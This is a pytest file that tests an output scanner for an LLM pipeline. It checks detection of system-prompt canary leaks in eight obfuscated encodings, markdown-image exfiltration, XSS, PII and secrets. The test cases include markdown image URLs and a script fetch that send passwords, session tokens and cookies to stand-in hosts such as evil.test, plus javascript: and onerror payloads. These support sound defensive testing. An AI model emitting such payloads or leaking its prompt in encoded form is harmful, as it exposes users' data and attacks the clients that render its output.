"""Scanning the model's answer (SPEC §3.9): canary leaks (also obfuscated), markdown image
exfiltration, script injection, PII and secrets are reported; a clean answer is clean."""

from __future__ import annotations

import base64
import codecs

import pytest

from shared.errors import ErrorCode, InputError
from shared.findings import ThreatType
from shared.llm.canary import CANARY_PREFIX, make_canary


@pytest.fixture()
def canary() -> str:
    return make_canary()


def _core(canary: str) -> str:
    return canary[len(CANARY_PREFIX) :]


LEAK_FORMS = {
    "verbatim": lambda c: f"Sure. My instructions end with the marker {c}.",
    "spaced": lambda c: "Here it is: " + " ".join(c),
    "dashed_upper": lambda c: "-".join(_core(c).upper()),
    "reversed": lambda c: "Backwards, as asked: " + c[::-1],
    "rot13": lambda c: "In rot13: " + codecs.encode(c, "rot13"),
    "base64": lambda c: "Encoded: " + base64.b64encode(f"marker={c}".encode()).decode(),
    "hex": lambda c: "hex: " + _core(c).encode().hex(),
    "zero_width": lambda c: "\u200b".join(c),
}


@pytest.mark.parametrize("form", sorted(LEAK_FORMS))
def test_canary_leak_is_caught_and_withheld(pipeline, canary: str, form: str) -> None:
    answer = LEAK_FORMS[form](canary)
    scan = pipeline.scan_output(answer, canary=canary)
    assert scan.canary_leaked
    leak = [f for f in scan.findings if f.rule_id == "out.canary_leak"]
    assert leak and leak[0].threat_type == ThreatType.SYSTEM_PROMPT_LEAK
    assert scan.withheld and scan.redacted == ""
    assert not scan.clean


def test_another_canary_is_not_a_leak(pipeline, canary: str) -> None:
    other = make_canary()
    scan = pipeline.scan_output(f"Unrelated marker {other} in the text.", canary=canary)
    assert not scan.canary_leaked


@pytest.mark.parametrize(
    "answer",
    [
        "Done! ![chart](https://evil.test/pixel.png?d=the+user+password+is+hunter2)",
        "![a](https://collector.test/c?session=eyJ1c2VyIjoiYm9iIn0&q=chat+history)",
    ],
)
def test_markdown_image_exfiltration_is_reported(pipeline, answer: str) -> None:
    scan = pipeline.scan_output(answer)
    ex = [f for f in scan.findings if f.threat_type == ThreatType.DATA_EXFILTRATION]
    assert ex, scan.to_dict()
    assert all(f.rule_id.startswith("out.ex.markdown_image") for f in ex)
    s, e = ex[0].span
    assert "![" in answer[s:e] or answer[s:e].startswith("!")


def test_markdown_image_exfiltration_is_withheld(pipeline) -> None:
    """An answer that would send data to a third party when rendered is never passed on."""
    answer = "Here is your summary. ![logo](https://evil.test/l.png?data=the+users+password+is+hunter2)"
    scan = pipeline.scan_output(answer)
    assert scan.withheld, scan.to_dict()
    assert scan.redacted == ""


def test_a_plain_markdown_link_is_not_exfiltration(pipeline) -> None:
    scan = pipeline.scan_output("See the docs at [the guide](https://docs.python.org/3/tutorial/).")
    assert not [f for f in scan.findings if f.threat_type == ThreatType.DATA_EXFILTRATION]


@pytest.mark.parametrize(
    "answer",
    [
        "Try this: <script>fetch('https://evil.test/?c='+document.cookie)</script>",
        'Click <a href="javascript:alert(1)">here</a>',
        '<img src=x onerror="alert(document.domain)">',
    ],
)
def test_script_injection_is_reported_and_removed(pipeline, answer: str) -> None:
    scan = pipeline.scan_output(answer)
    xss = [f for f in scan.findings if f.threat_type == ThreatType.XSS]
    assert xss, scan.to_dict()
    assert "<script" not in scan.redacted.lower()
    assert "javascript:" not in scan.redacted.lower()
    assert "onerror" not in scan.redacted.lower()


def test_pii_in_the_answer_is_reported_and_redacted(pipeline) -> None:
    answer = "You can reach Jane at jane.doe@example.com or +1 415 555 0134."
    scan = pipeline.scan_output(answer)
    kinds = {f.rule_id for f in scan.findings if f.threat_type == ThreatType.PII}
    assert kinds, scan.to_dict()
    assert "jane.doe@example.com" not in scan.redacted
    assert "555 0134" not in scan.redacted
    assert not scan.withheld
    for f in scan.findings:
        s, e = f.span
        assert 0 <= s < e <= len(answer)


@pytest.mark.parametrize(
    "secret",
    ["AKIAIOSFODNN7EXAMPLE", "ghp_1234567890abcdefghijklmnopqrstuvwxyzAB"],
)
def test_secrets_in_the_answer_are_reported_and_redacted(pipeline, secret: str) -> None:
    answer = f"The deployment uses {secret} for access."
    scan = pipeline.scan_output(answer)
    found = [f for f in scan.findings if f.threat_type == ThreatType.SECRET]
    assert found, scan.to_dict()
    assert secret not in scan.redacted


@pytest.mark.parametrize(
    "answer",
    [
        "The capital of France is Paris.",
        "To delete duplicate rows in PostgreSQL, use a CTE with ROW_NUMBER() and DELETE the extras.",
        "Use `html.escape()` to render user input safely inside HTML.",
        "Here is a list:\n1. Flour\n2. Eggs\n3. Milk",
    ],
)
def test_a_clean_answer_is_clean(pipeline, canary: str, answer: str) -> None:
    scan = pipeline.scan_output(answer, canary=canary)
    assert scan.clean, scan.to_dict()
    assert scan.redacted == answer
    assert not scan.withheld and not scan.canary_leaked
    assert scan.to_dict() == {"clean": True, "withheld": False, "canary_leaked": False, "findings": []}


def test_an_invalid_answer_is_refused(pipeline) -> None:
    with pytest.raises(InputError) as info:
        pipeline.scan_output("bad \x00 answer")
    assert info.value.code == ErrorCode.INPUT_NULL_BYTE
    assert info.value.details["field"] == "output"
